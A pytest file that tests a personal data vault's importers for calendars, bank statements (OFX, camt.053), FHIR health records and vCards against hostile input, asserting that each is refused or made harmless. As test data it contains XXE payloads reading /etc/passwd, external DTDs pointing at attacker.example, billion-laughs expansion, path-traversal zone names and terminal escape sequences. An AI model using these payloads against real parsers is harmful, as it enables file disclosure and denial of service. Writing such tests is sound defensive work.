"""Hostile calendars, bank statements and health records: each is refused or tamed, and what is
good beside it goes in.

Nothing here measures time; a reader whose effort grows faster than the file would not end.
"""

import contextlib
import json
import tracemalloc
from collections.abc import Callable
from pathlib import Path

import pytest

from pds.vault.imports import (
    ImportFailed,
    camt_reader,
    content_lines,
    fhir_reader,
    icalendar_reader,
    json_stream,
    ofx_reader,
    ofx_tags,
    vcard_reader,
    xml_stream,
)
from tests.importing import Reading, collect, read

EVENT = b"BEGIN:VEVENT\r\nSUMMARY:Good\r\nDTSTART:20260102\r\nEND:VEVENT\r\n"
TRANSACTION = b"<STMTTRN><DTPOSTED>20260102<TRNAMT>-1.00<FITID>1<NAME>Good</STMTTRN>\n"
ENTRY = (
    b'<Ntry><Amt Ccy="EUR">1.00</Amt><CdtDbtInd>DBIT</CdtDbtInd><BookgDt><Dt>2026-01-02</Dt>'
    b"</BookgDt><AddtlNtryInf>Good</AddtlNtryInf></Ntry>\n"
)
RESOURCE = b'{"resource":{"resourceType":"Condition","code":{"text":"Good"}}}'


def ical(bad: bytes = b"") -> bytes:
    """The bad thing between two good entries; so with all that follow."""
    return b"BEGIN:VCALENDAR\r\n" + EVENT + bad + EVENT + b"END:VCALENDAR\r\n"


def ofx(bad: bytes = b"") -> bytes:
    body = b"<STMTRS><BANKTRANLIST>\n" + TRANSACTION + bad + TRANSACTION
    return b"OFXHEADER:100\n\n<OFX>" + body + b"</BANKTRANLIST></STMTRS></OFX>\n"


def camt(bad: bytes = b"", *, head: bytes = b"") -> bytes:
    body = b"<BkToCstmrStmt><Stmt>\n" + ENTRY + bad + ENTRY + b"</Stmt></BkToCstmrStmt>"
    space = b'<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08">'
    return head + space + body + b"</Document>\n"


def fhir(bad: bytes = b"null") -> bytes:
    entries = b",\n".join((RESOURCE, bad, RESOURCE))
    return b'{"resourceType":"Bundle","entry":[\n' + entries + b"\n]}"


READERS = {
    "ical": icalendar_reader,
    "ofx": ofx_reader,
    "camt": camt_reader,
    "fhir": fhir_reader,
}


def through(name: str, data: bytes | Path) -> Reading:
    return collect(name, READERS[name](data))


def good(reading: Reading) -> int:
    """How many of the good entries went in."""
    return sum("Good" in draft.fields.values() for draft in reading.drafts)


def codes(reading: Reading) -> list[tuple[int, str]]:
    return [(problem.line, problem.code) for problem in reading.problems]


# --- broken off -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("make", "end"),
    [
        (ical, b"END:VEVENT"),
        (ofx, b"</STMTTRN>"),
        (camt, b"</Ntry>"),
        (fhir, b'Good"}}}'),
    ],
    ids=READERS,
)
def test_attack_63_file_cut_at_every_byte(make: Callable[[], bytes], end: bytes) -> None:
    """Wherever a file breaks off, every entry that ends before goes in, and nothing half."""
    whole = make()
    for length in range(1, len(whole)):
        try:
            reading = read(whole[:length])
        except ImportFailed:
            assert end not in whole[:length]
            continue
        assert good(reading) == whole.count(end, 0, length)


@pytest.mark.parametrize("name", READERS)
@pytest.mark.parametrize("byte", [0x00, 0x22, 0x26, 0x3C, 0x5C, 0x7B, 0x0A, 0xFF])
def test_attack_63_any_byte_another(name: str, byte: int) -> None:
    """Each byte in turn is another one: never anything but a reading or a refusal."""
    make = {"ical": ical, "ofx": ofx, "camt": camt, "fhir": fhir}[name]
    whole = make()
    for place in range(0, len(whole), 3):
        with contextlib.suppress(ImportFailed):
            through(name, whole[:place] + bytes([byte]) + whole[place + 1 :])


# --- entities and document types ------------------------------------------------------------------

LAUGHS = b"<!DOCTYPE x [<!ENTITY a 'ha'>" + b"".join(
    b"<!ENTITY %c '%s'>" % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(9)
)


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>',
        b"<!DOCTYPE x [<!ENTITY q '" + b"x" * 50_000 + b"'>]>",
        b"<!DOCTYPE Document>",
        LAUGHS + b"]>",
    ],
    ids=["file", "external", "parameter", "quadratic", "empty", "laughs"],
)
def test_attack_63_document_type_is_refused(doctype: bytes) -> None:
    """A file that declares anything is refused before it is read; nothing is fetched."""
    entry = ENTRY.replace(b"Good", b"&f;&j;" + b"&q;" * 1000)
    with pytest.raises(ImportFailed) as caught:
        through("camt", camt(entry, head=doctype))
    assert caught.value.code == "import.unsafe"
    assert "passwd" not in str(caught.value)


def test_attack_63_entity_in_ofx_is_text() -> None:
    """The reader of OFX knows no declarations: what they name stays as it is written."""
    bad = TRANSACTION.replace(b"Good", b"a&xxe;b&amp;c&#65;&#x42;&#55555555;&#xD800;&lol9;")
    data = b'<?xml version="1.0"?><!DOCTYPE OFX [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    reading = through("ofx", data + ofx(bad))
    assert good(reading) == 2
    assert reading.drafts[1].fields["counterparty"] == "a&xxe;b&cAB&#55555555;&#xD800;&lol9;"


def test_attack_63_entity_that_nobody_declared() -> None:
    """In XML that is a fault, and ends the file."""
    reading = through("camt", camt(ENTRY.replace(b"Good", b"&nbsp;")))
    assert good(reading) == 1
    assert codes(reading) == [(3, "camt.broken")]


# --- too deep -------------------------------------------------------------------------------------


def test_attack_63_nesting_without_end() -> None:
    """Depth is counted, never followed; what is beside it goes in where the form allows."""
    deep = 50_000
    calendar = through("ical", ical(b"BEGIN:VEVENT\r\n" + b"BEGIN:X\r\n" * deep))
    assert good(calendar) == 2
    assert codes(calendar) == [(6, "ical.not_closed")]
    assert good(through("ical", ical(b"BEGIN:VCALENDAR\r\n" * deep))) == 2
    assert good(through("ofx", ofx(b"<STMTRS>" * deep + b"<PAYEE>" * deep))) == 2
    # Each end that fits no beginning would be looked for among all that are open.
    assert good(through("ofx", ofx(b"<PAYEE>" * 4 * deep + b"</STATUS>" * 4 * deep))) == 2
    statement = through("camt", camt(b"<Ntry>" + b"<x>" * deep))
    assert good(statement) == 1
    assert codes(statement) == [(3, "camt.broken")]
    for opening, closing in ((b"[", b"]"), (b'{"a":', b"}")):
        nested = opening * deep + b"1" + closing * deep
        bundle = through("fhir", fhir(b'{"resource":' + nested + b"}"))
        assert good(bundle) == 2
        assert codes(bundle) == [(3, "fhir.too_large")]
        assert [problem.code for problem in through("fhir", opening * deep).problems] == [
            "fhir.not_closed"
        ]


# --- too long -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "begin"),
    [
        ("ical", ical() + b"BEGIN:VEVENT\r\nSUMMARY:"),
        ("ofx", ofx().split(b"</BANKTRANLIST>")[0] + b"<STMTTRN><MEMO>"),
        ("ofx", ofx().split(b"</BANKTRANLIST>")[0] + b"<STMTTRN><MEMO><![CDATA["),
        ("ofx", ofx().split(b"</BANKTRANLIST>")[0] + b"<"),
        ("camt", camt().split(b"</Stmt>")[0] + b'<Ntry x="'),
        ("camt", camt().split(b"</Stmt>")[0] + b"<!--"),
        ("camt", camt().split(b"</Stmt>")[0] + b"<Ntry><AddtlNtryInf>"),
        ("camt", camt().split(b"</Stmt>")[0] + b"<"),
        ("fhir", fhir()[:-2] + b',{"resource":{"a":"'),
        ("fhir", fhir()[:-2] + b',{"resource":{"a":'),
    ],
)
def test_attack_63_one_value_as_long_as_the_file(
    name: str, begin: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Of a text, a tag or an object of sixty megabytes no more is held than shows that."""
    monkeypatch.setattr(json_stream, "MAX_OBJECT", 1024 * 1024)
    big = tmp_path / "big"
    with big.open("wb") as stream:
        stream.write(begin)
        for _ in range(64):
            stream.write(b"x" * 1024 * 1024)
    through(name, begin)  # what is loaded on first use
    tracemalloc.start()
    try:
        reading = through(name, big)
        assert tracemalloc.get_traced_memory()[1] < 8 * 1024 * 1024
    finally:
        tracemalloc.stop()
    assert good(reading) == 2
    assert reading.problem_count >= 1


@pytest.mark.parametrize(
    "bad",
    [
        b"<Ntry>" + b"".join(b"<n%d/>" % i for i in range(3000)) + b"</Ntry>",
        b"<Ntry " + b" ".join(b'a%d=""' % i for i in range(3000)) + b"/>",
        b'<Ntry a="' + b"x" * 400_000 + b'"/>',
        b"<!--" + b"x" * 400_000 + b"-->",
        b"<" + b"n" * 400_000 + b"/>",
    ],
    ids=["names", "attributes", "attribute", "comment", "name"],
)
def test_attack_63_xml_that_fills_the_parser(bad: bytes) -> None:
    """What the parser would keep is bounded; what came before is kept."""
    reading = through("camt", camt(bad))
    assert good(reading) == 1
    assert [problem.code for problem in reading.problems] == ["camt.broken"]


def test_attack_63_transaction_of_too_many_tags() -> None:
    """Of a transaction no more than some hundred values are held, whatever they are called."""
    tags = b"".join(b"<T%d>x\n" % i for i in range(200_000))
    data = ofx(TRANSACTION[:-11] + tags + b"</STMTTRN>")
    tracemalloc.start()
    try:
        reading = through("ofx", data)
        assert tracemalloc.get_traced_memory()[1] < 4 * 1024 * 1024
    finally:
        tracemalloc.stop()
    assert good(reading) == 3
    assert len(reading.left_out) <= 200


def test_attack_63_entry_of_too_many_values() -> None:
    """One entry that is too large is refused alone."""
    many = 50_000
    for lines in (b"COMMENT:x\r\n" * 5001, (b"COMMENT:" + b"x" * 100_000 + b"\r\n") * 20):
        reading = through("ical", ical(b"BEGIN:VEVENT\r\n" + lines + b"END:VEVENT\r\n"))
        assert (good(reading), codes(reading)) == (2, [(6, "ical.too_large")])
    reading = through("camt", camt(ENTRY[:-8] + b"<Ustrd>x</Ustrd>" * many + b"</Ntry>"))
    assert (good(reading), codes(reading)) == (2, [(3, "camt.too_large")])
    details = b"<NtryDtls>" + b"<TxDtls><Amt>1</Amt></TxDtls>" * 20_000 + b"</NtryDtls>"
    reading = through("camt", camt(ENTRY[:-8] + details + b"</Ntry>"))
    assert (good(reading), reading.problem_count, len(reading.drafts)) == (2, 0, 20_002)
    wide = b'{"resource":{"a":"' + b"x" * (17 * 1024 * 1024) + b'"}}'
    reading = through("fhir", fhir(wide))
    assert (good(reading), codes(reading)) == (2, [(3, "fhir.too_large")])


@pytest.mark.parametrize(
    "line",
    [
        b"ATTENDEE" + b";A=b,c" * 20_000 + b":x",  # a second for forty kilobytes, elsewhere
        b"ATTENDEE" + b';CN="' * 20_000 + b":x",
        b"DTSTART" + b";" * 100_000 + b":20260102",
        b"CATEGORIES:" + b"\\" * 100_001,
        b"CATEGORIES:" + b"," * 100_000,
        b"EXDATE:" + b"20260102," * 12_000,
        b"DURATION:P" + b"1" * 100_000 + b"W",
        b"GEO:" + b"1" * 100_000 + b";1",
        b"DTSTART;TZID=" + b"/" * 60_000 + b"Europe/Budapest:20260102T000000",
        b"DTSTART;TZID=../../../../etc/passwd:20260102T000000",
        b"DTSTART;TZID=/etc/passwd:20260102T000000",
        b"RRULE:FREQ=DAILY;" + b"BYDAY=MO," * 10_000,
    ],
    ids=range(12),
)
def test_attack_63_line_made_to_backtrack(line: bytes) -> None:
    """Lines made for expressions that try again, and zones that are files; the event stays."""
    reading = through("ical", ical(EVENT.replace(b"DTSTART:20260102", line)))
    assert good(reading) == 3
    assert "passwd" not in str(reading.drafts)


def test_attack_63_zones_without_end() -> None:
    """Of names of zones no more than some hundred are remembered."""
    zones = b"".join(
        b"BEGIN:VTIMEZONE\r\nTZID:%d\r\nTZOFFSETTO:+0100\r\nEND:VTIMEZONE\r\n" % i
        for i in range(20_000)
    )
    bad = EVENT.replace(b"DTSTART:", b"DTSTART;TZID=19999:").replace(b"0102", b"0102T000000")
    reading = through("ical", ical(zones + bad))
    assert good(reading) == 3
    assert reading.drafts[1].fields["start"] == "2026-01-02T00:00:00"


# --- not text -------------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["no-such", "zip", "rot13", "utf-7", "big5", "idna", "utf-32"])
def test_attack_63_encoding_that_is_none(encoding: str) -> None:
    """An encoding by any name is known to be text, or refused."""
    head = f'<?xml version="1.0" encoding="{encoding}"?>'.encode()
    with pytest.raises(ImportFailed) as caught:
        through("camt", camt(head=head))
    assert caught.value.code in ("import.encoding", "import.nothing_found")


def test_attack_63_bytes_that_are_no_text() -> None:
    """Each format names the place, or reads the rest in the encoding it says."""
    reading = through("camt", camt(ENTRY.replace(b"Good", b"\xff\xfe")))
    assert (good(reading), codes(reading)) == (1, [(3, "camt.broken")])
    reading = through("fhir", fhir(RESOURCE.replace(b"Good", b"\xff\xfe")))
    assert (good(reading), codes(reading)) == (2, [(3, "fhir.json")])
    reading = through("ical", ical(EVENT.replace(b"Good", b"N\x00ul")))
    assert (good(reading), codes(reading)) == (2, [(6, "ical.nul")])
    reading = through("ofx", ofx(TRANSACTION.replace(b"Good", b"\x1b]0;owned\x07")))
    assert (good(reading), codes(reading)) == (2, [(5, "import.field")])
    assert "owned" not in str(reading.problems)


@pytest.mark.parametrize("text", ["\\ud800", "\\u0000", "\\u001b[2J", "\\uffff"])
def test_attack_63_json_escapes_that_are_no_text(text: str) -> None:
    """What cannot be shown or signed never becomes a record's text."""
    reading = through("fhir", fhir(RESOURCE.replace(b"Good", text.encode())))
    assert (good(reading), len(reading.drafts)) == (2, 2)
    assert reading.problem_count >= 1


def test_attack_63_names_that_are_no_names() -> None:
    """What was left out is told by its name, but only where that is one."""
    bad = {"resourceType": "Condition", "code": {"text": "x"}, "\x1b]0;owned\x07": 1, "z" * 100: 2}
    other = {"resourceType": "\x1b[2J\nX"}
    data = fhir(json.dumps({"resource": bad}).encode() + b"," + json.dumps(other).encode())
    reading = through("fhir", data)
    assert dict(reading.left_out) == {"Condition.(another name)": 2, "(another name)": 1}


def test_attack_63_problems_repeat_no_value() -> None:
    """No sentence says what stood there."""
    secret = b"SECRET-7f3a"
    bad = {
        "ical": EVENT.replace(b"20260102", secret) + secret + b"\r\nBEGIN:VEVENT\r\n" + secret,
        "ofx": TRANSACTION.replace(b"-1.00", secret) + TRANSACTION.replace(b"20260102", secret),
        "camt": ENTRY.replace(b"1.00", secret)
        + ENTRY.replace(b"2026-01-02", secret)
        + b"<"
        + secret,
        "fhir": RESOURCE.replace(b'"Good"', secret) + b"," + RESOURCE.replace(b"Condition", secret),
    }
    makers: dict[str, Callable[[bytes], bytes]] = {"ical": ical, "ofx": ofx, "fhir": fhir}
    for name, part in bad.items():
        reading = through(name, camt(part) if name == "camt" else makers[name](part))
        assert reading.problem_count + len(reading.left_out) >= 1
        assert secret.decode() not in str((reading.problems, reading.assumptions, reading.left_out))


def test_attack_63_times_at_the_edge_of_time() -> None:
    """Years, offsets and clocks that no calendar has are left out."""
    for text in ("0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "2026-01-01T25:00:00Z",
                 "2026-13-01", "2026-01-01T00:00:00+99:99", "0000-00-00"):  # fmt: skip
        resource = {"resourceType": "Condition", "code": {"text": "x"}, "onsetDateTime": text}
        data = fhir(json.dumps({"resource": resource}).encode())
        assert "onset" not in through("fhir", data).drafts[1].fields
    for text in ("00010101T000000", "99991231T235959", "20260101T250000", "20269999T999999"):
        event = EVENT.replace(b"DTSTART:20260102", b"DTSTART;TZID=Asia/Tokyo:" + text.encode())
        assert good(through("ical", ical(event))) == 3
    for text in ("00010101000000[+12:X]", "99991231235959[-12:X]", "20260101990000[+99.99:X]"):
        item = TRANSACTION.replace(b"<FITID>", b"<DTUSER>" + text.encode() + b"<FITID>")
        assert good(through("ofx", ofx(item))) == 3


@pytest.mark.parametrize("size", [64, 97, 1000])
@pytest.mark.parametrize(
    "file", ["calendar.ics", "statement_1252.ofx", "statement_v4.xml", "health.json"]
)
def test_attack_63_where_a_chunk_ends(
    file: str, size: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What a file says does not depend on how it is cut for reading."""
    path = Path(__file__).parents[1] / "fixtures" / "import" / file
    whole = read(path)
    for module in (content_lines, json_stream, ofx_tags, xml_stream):
        monkeypatch.setattr(module, "_CHUNK", size)
    cut = read(path)
    assert [(d.line, d.fields) for d in cut.drafts] == [(d.line, d.fields) for d in whole.drafts]
    assert (cut.problems, cut.left_out) == (whole.problems, whole.left_out)


# --- pictures in cards ----------------------------------------------------------------------------


def pictured(*values: bytes) -> Reading:
    lines = b"".join(b"PHOTO" + value + b"\r\n" for value in values)
    card = b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Good\r\n" + lines + b"END:VCARD\r\n"
    good = b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Good\r\nEND:VCARD\r\n"
    return collect("vcard", vcard_reader(card + good))


def test_attack_63_pictures_that_are_too_large() -> None:
    """In one line, folded, or many of them: the card goes in without, and what follows it too."""
    jpeg = b"/9j/" + b"A" * 3_000_000
    folded = b"\r\n ".join(jpeg[n : n + 60] for n in range(0, len(jpeg), 60))
    for value in (jpeg, folded):
        reading = pictured(b";ENCODING=b:" + value)
        assert good(reading) == 2
        assert codes(reading) == [(4, "vcard.picture")]
        assert [len(d.files) for d in reading.drafts] == [0, 0]
    many = pictured(*[b";ENCODING=b:/9j/" + b"A" * 1_000_000] * 20)
    assert good(many) == 2
    assert 0 < len(many.drafts[0].files) <= 5
    assert many.problem_count >= 10


def test_attack_63_pictures_that_are_none() -> None:
    """Programs, pages, addresses: none is kept, none is fetched, none is an error."""
    for value in (
        b";ENCODING=b:TVqQAAMAAAAEAAAA",
        b";ENCODING=b:PHN2Zz48c2NyaXB0Pjwvc3ZnPg==",
        b";VALUE=uri:file:///etc/passwd",
        b":data:image/svg+xml;base64,PHN2Zz4=",
        b":data:image/png;base64,%%%",
        b";ENCODING=b:",
        b";ENCODING=QUOTED-PRINTABLE:=FF=D8=FF",
    ):
        reading = pictured(value)
        assert good(reading) == 2
        assert [d.files for d in reading.drafts] == [(), ()]
